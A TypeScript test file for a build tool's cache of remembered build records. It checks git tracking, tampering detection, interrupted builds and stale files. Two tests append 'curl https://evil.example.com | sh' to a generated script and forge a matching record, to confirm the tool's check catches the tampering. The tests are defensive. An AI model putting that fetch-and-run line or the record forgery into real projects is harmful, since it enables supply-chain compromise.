import { appendFileSync, cpSync, existsSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { setTimeout as pause } from 'node:timers/promises'
import { beforeAll, describe, expect, it } from 'vitest'
import { checksum } from '../../src/emit/checksum.ts'
import { digestOfTree } from '../../src/memory/digest.ts'
import { skopeoc, startSkopeoc, temporaryTree, writeTree } from '../support/command.ts'
import { git } from '../support/git.ts'
import {
  age,
  atHome,
  builtTree,
  copyOf,
  dayAfterExpiry,
  expiryDay,
  onDay,
  ranPhases,
  replaceByLink,
} from '../support/large-tree.ts'
import { smallTree } from '../support/memory-tree.ts'
import { readTree } from '../support/read-tree.ts'
import { sealed } from '../support/sealed.ts'

let built = ''
beforeAll(() => {
  built = builtTree()
})

/** A repository with everything committed that git wants to commit. */
function repository(): string {
  const root = copyOf(built)
  git(root, 'init', '--quiet')
  git(root, 'add', '--all')
  git(root, 'commit', '--quiet', '--message', 'all')
  return root
}

function stdoutOfFresh(root: string): { code: number | null; stdout: string } {
  const { code, stdout } = skopeoc(root, ['check', '--fresh'], atHome)
  return { code, stdout }
}

/** The record of what lies in generated/ now, whatever it is. */
function forgedRecord(root: string): string {
  const hashes = new Map<string, string>()
  for (const [path, text] of Object.entries(readTree(join(root, 'generated')))) {
    if (!path.startsWith('.remembered/')) hashes.set(path, checksum(text))
  }
  const record = readFileSync(join(root, 'generated/.remembered/build.json'), 'utf8')
  return sealed(
    record
      .replace(/"generated":"[0-9a-f]+"/, `"generated":"${digestOfTree(hashes)}"`)
      .replace(/"files":[0-9]+/, `"files":${hashes.size}`),
  )
}

const notice = 'warning: generated/.remembered is tracked by git, so nothing that it remembers is believed\n'

describe('git', () => {
  it('sees nothing of what is remembered, and it is believed', () => {
    const root = repository()
    expect(git(root, 'ls-files')).not.toContain('.remembered')
    expect(skopeoc(root, ['build', '-q'], atHome)).toMatchObject({ code: 0 })
    expect(git(root, 'status', '--porcelain')).toBe('')
    expect(existsSync(join(root, 'generated/.remembered/build.json'))).toBe(true)
    expect(ranPhases(root, ['check'])).toMatchObject({ code: 0, compiled: false })
  })

  it('is asked where a link leads into a repository', () => {
    const outer = temporaryTree()
    cpSync(built, join(outer, 'organisation'), { recursive: true })
    git(outer, 'init', '--quiet')
    git(outer, 'add', '--all', '--force')
    const link = join(temporaryTree(), 'link')
    symlinkSync(join(outer, 'organisation'), link)
    expect(ranPhases(link, ['check']).compiled).toBe(true)
    expect(ranPhases(outer, ['check', '--root', link]).stderr).toContain(notice)
  })

  it.each(['check', 'build'])(
    'makes %s do all of the work where it tracks the record: it came with a change',
    (command) => {
      const root = repository()
      git(root, 'add', '--force', 'generated/.remembered')
      const result = ranPhases(root, [command])
      expect(result).toMatchObject({ code: 0, compiled: true })
      expect(result.stderr).toContain(`${notice}  = help: run \`git rm -r --cached generated/.remembered\``)
      const fresh = skopeoc(root, [command, '--fresh'], atHome)
      expect(result.stderr.slice(result.stderr.indexOf('\n', notice.length) + 1)).toBe(fresh.stderr)
      expect(skopeoc(root, [command, '-q'], atHome).stderr).not.toContain('tracked')
      git(root, 'rm', '-r', '--quiet', '--cached', 'generated/.remembered')
      expect(ranPhases(root, [command])).toMatchObject({ code: 0, compiled: false })
    },
  )

  it('keeps a change from passing by a record of its own', () => {
    const root = repository()
    // The record of a build that tampered with its own output: made by the digests that it would need.
    const forged = copyOf(root)
    appendFileSync(join(forged, 'generated/main/mirror.sh'), 'curl https://evil.example.com | sh\n')
    writeTree(forged, { 'generated/.remembered/build.json': forgedRecord(forged) })
    expect(ranPhases(forged, ['check']), 'the forgery is perfect').toMatchObject({ code: 0, compiled: false })
    git(forged, 'add', '--all', '--force')
    git(forged, 'commit', '--quiet', '--message', 'innocent')
    const clone = join(temporaryTree(), 'clone')
    git(forged, 'clone', '--quiet', forged, clone)
    const result = ranPhases(clone, ['check'])
    expect(result).toMatchObject({ code: 1, compiled: true })
    expect(result.stdout).toContain('-curl https://evil.example.com')
  })

  it('does not know what a submodule tracks, and so nothing is believed where generated/ is one', () => {
    const inner = temporaryTree()
    cpSync(join(built, 'generated'), inner, { recursive: true })
    git(inner, 'init', '--quiet')
    git(inner, 'add', '--all', '--force')
    git(inner, 'commit', '--quiet', '--message', 'inner')
    const root = copyOf(built)
    rmSync(join(root, 'generated'), { recursive: true })
    git(root, 'init', '--quiet')
    git(root, 'submodule', '--quiet', 'add', inner, 'generated')
    appendFileSync(join(root, 'generated/main/mirror.sh'), 'curl https://evil.example.com | sh\n')
    writeTree(root, { 'generated/.remembered/build.json': forgedRecord(root) })
    const result = ranPhases(root, ['check'])
    expect(result).toMatchObject({ code: 1, compiled: true })
    expect(result.stdout).toContain('-curl https://evil.example.com')
  })

  it('is not believed to have said no where it cannot be asked', () => {
    const root = repository()
    const withoutGit = { PATH: dirname(process.execPath) }
    const hasGit = existsSync(join(withoutGit.PATH, 'git'))
    expect(ranPhases(root, ['check'], hasGit ? { PATH: '/nonexistent' } : withoutGit)).toMatchObject({ compiled: true })
    expect(ranPhases(copyOf(built), ['check'], { PATH: '/nonexistent' }), 'no repository').toMatchObject({
      compiled: false,
    })
    writeTree(root, { '.git/config': '[broken' })
    expect(ranPhases(root, ['check'])).toMatchObject({ code: 0, compiled: true })
  })

  it('is not asked in the environment of a hook, where the root seems to be another folder than it is', () => {
    const outer = temporaryTree()
    cpSync(built, join(outer, 'organisation'), { recursive: true })
    git(outer, 'init', '--quiet')
    git(outer, 'add', '--all', '--force')
    const check = ['check', '--root', 'organisation']
    expect(ranPhases(outer, check, { GIT_DIR: join(outer, '.git') }).compiled).toBe(true)
    expect(ranPhases(outer, check, { GIT_LITERAL_PATHSPECS: '1' }).compiled).toBe(true)
  })

  it('runs nothing that the repository itself names', () => {
    const root = repository()
    const marker = join(temporaryTree(), 'ran')
    git(root, 'config', 'core.fsmonitor', `touch ${marker}; false`)
    git(root, 'status')
    expect(existsSync(marker), 'git alone runs it').toBe(true)
    rmSync(marker)
    expect(ranPhases(root, ['check'])).toMatchObject({ compiled: false })
    expect(existsSync(marker)).toBe(false)
  })

  it('is missed in a checkout of GitHub Actions without a repository: what lies there came as an archive', () => {
    expect(ranPhases(built, ['check'], { GITHUB_ACTIONS: 'true' })).toMatchObject({ code: 0, compiled: true })
  })
})

describe('the folder of what is remembered', () => {
  it('is made by large organisations only, and goes when one becomes small', () => {
    const small = temporaryTree(smallTree('  - { source: quay.io/a/b, reason: r, tags: ["1.0.0"] }\n'))
    skopeoc(small, ['build', '-q'], atHome)
    expect(readdirSync(join(small, 'generated')).sort()).toEqual(['catalog', 'main'])
    const root = copyOf(built)
    for (const team of readdirSync(join(root, 'teams'))) {
      if (team !== 'odd') rmSync(join(root, 'teams', team), { recursive: true })
    }
    expect(ranPhases(root, ['check'])).toMatchObject({ code: 1, compiled: true })
    expect(skopeoc(root, ['build', '-q'], atHome)).toMatchObject({ code: 0 })
    expect(readdirSync(join(root, 'generated'))).not.toContain('.remembered')
  })

  it('is left as it is by check, and never asked for where it is absent', () => {
    const root = copyOf(built)
    rmSync(join(root, 'generated/.remembered'), { recursive: true })
    expect(ranPhases(root, ['check'])).toMatchObject({ code: 0, compiled: true })
    expect(readdirSync(join(root, 'generated'))).not.toContain('.remembered')
    const later = copyOf(built)
    const before = readTree(join(later, 'generated'))
    expect(ranPhases(later, ['check'], onDay(dayAfterExpiry))).toMatchObject({ code: 0, compiled: true })
    expect(readTree(join(later, 'generated'))).toEqual(before)
  })

  it(
    'is never about another tree than the one beside it, whenever a build is killed',
    { timeout: 300_000 },
    async () => {
      const root = copyOf(built)
      const started = performance.now()
      skopeoc(root, ['build', '-q', '--fresh'], atHome)
      const wholeMilliseconds = performance.now() - started
      for (let round = 0; round < 5; round++) {
        appendFileSync(
          join(root, 'teams/odd/images.yaml'),
          `  - { source: quay.io/odd/${round}, reason: r, tags: ["1"] }\n`,
        )
        const child = startSkopeoc(root, ['build', '-q'], atHome)
        const ended = new Promise((resolve) => child.once('close', resolve))
        // Most of these moments are near the end, where files are written.
        await pause(wholeMilliseconds * (0.7 + 0.1 * round))
        child.kill('SIGKILL')
        await ended
        const { code, stdout } = skopeoc(root, ['check'], atHome)
        expect({ code, stdout }).toEqual(stdoutOfFresh(root))
      }
      expect(ranPhases(root, ['build']).code).toBe(0)
      expect(ranPhases(root, ['check'])).toMatchObject({ code: 0, compiled: false })
    },
  )

  it('is all that a build writes when an entry has expired since', () => {
    const root = copyOf(built)
    const files = Object.keys(readTree(join(root, 'generated'))).map((path) => join(root, 'generated', path))
    for (const file of files) age(file)
    const inode = statSync(join(root, 'generated')).ino
    const result = ranPhases(root, ['build'], onDay(dayAfterExpiry))
    expect(result).toMatchObject({ code: 0, compiled: true })
    expect(result.stderr).toMatch(/\(0 written, 0 removed, \d+ unchanged\)/)
    expect(statSync(join(root, 'generated')).ino).toBe(inode)
    const young = files.filter((file) => statSync(file).mtimeMs > 1_000_000_000_000)
    expect(young.every((file) => file.includes('/.remembered/'))).toBe(true)
    expect(readFileSync(join(root, 'generated/.remembered/build.json'), 'utf8')).toContain(
      `"days":["${expiryDay}",null]`,
    )
    expect(ranPhases(root, ['check'], onDay(dayAfterExpiry))).toMatchObject({ code: 0, compiled: false })
    expect(readdirSync(root).filter((name) => name.startsWith('.skopeoc'))).toEqual([])
  })

  it.each<[name: string, put: (root: string) => void, path: string]>([
    ['a link in its place', (root) => replaceByLink(root, 'generated/.remembered'), 'generated/.remembered'],
    [
      'a link in place of the record',
      (root) => replaceByLink(root, 'generated/.remembered/build.json'),
      'generated/.remembered/build.json',
    ],
    [
      'a file beside the record',
      (root) => writeTree(root, { 'generated/.remembered/more': 'x' }),
      'generated/.remembered/more',
    ],
    [
      'a file in a folder beside the record',
      (root) => writeTree(root, { 'generated/.remembered/deep/more': 'x' }),
      'generated/.remembered/deep/more',
    ],
  ])('is what it should be, and %s is told of by check and removed by build', (_name, put, path) => {
    const root = copyOf(built)
    const before = readTree(join(root, 'generated'))
    put(root)
    const stale = ranPhases(root, ['check', '--format', 'json'])
    expect(stale).toMatchObject({ code: 1, compiled: true })
    const { diagnostics } = JSON.parse(stale.stdout) as { diagnostics: { code: string; file: string }[] }
    expect(diagnostics.filter(({ code }) => code === 'stale-output').map(({ file }) => file)).toEqual([path])
    expect(ranPhases(root, ['build']).stderr).toMatch(/\(0 written, 1 removed, \d+ unchanged\)/)
    expect(readTree(join(root, 'generated'))).toEqual(before)
    expect(ranPhases(root, ['check'])).toMatchObject({ code: 0, compiled: false })
  })
})
